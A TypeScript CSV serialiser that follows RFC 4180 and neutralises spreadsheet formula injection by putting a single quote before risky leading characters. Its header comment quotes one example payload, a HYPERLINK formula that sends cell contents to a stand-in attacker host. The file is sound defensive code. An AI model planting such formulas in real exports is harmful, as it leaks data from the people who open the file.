/**
 * RFC 4180 CSV: fields with a comma, quote, CR or LF are quoted, quotes doubled, CRLF.
 *
 * CSV injection (OWASP, "CSV Injection"): a text field that starts with =, +, -, @, tab or CR
 * becomes a formula (or a DDE call) when Excel opens the file, so a customer named
 * `=HYPERLINK("http://evil.example/?"&A1,"Click")` in a source file would run in the reader's
 * Excel. Such text is written with a leading single quote, as OWASP advises, so Excel shows
 * it as text (the quote stays visible). Numbers are written as numbers, and text that is only
 * a signed plain number ("-1,234.50", "+12%") is left alone: Excel reads it as that number,
 * which runs nothing.
 */
import { dateText } from "../../engine/input/cells";
import { valueText } from "../value-text";

/** Leading whitespace before =/+/-/@ counts too: some spreadsheet programs trim it on import. */
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@])/;
const SIGNED_PLAIN_NUMBER = /^\s*[-+]\d[\d,]*(?:\.\d*)?%?\s*$/;

/** Text that a spreadsheet would read as a formula, prefixed with a single quote. */
export function neutraliseFormula(s: string): string {
  return FORMULA_START.test(s) && !SIGNED_PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

export function csvField(v: unknown): string {
  let s: string;
  if (v === null || v === undefined) s = "";
  else if (typeof v === "number") s = Number.isFinite(v) ? String(v) : "";
  else if (v instanceof Date) s = dateText(v);
  else s = neutraliseFormula(valueText(v));
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export function csvLine(values: readonly unknown[]): string {
  return values.map(csvField).join(",");
}
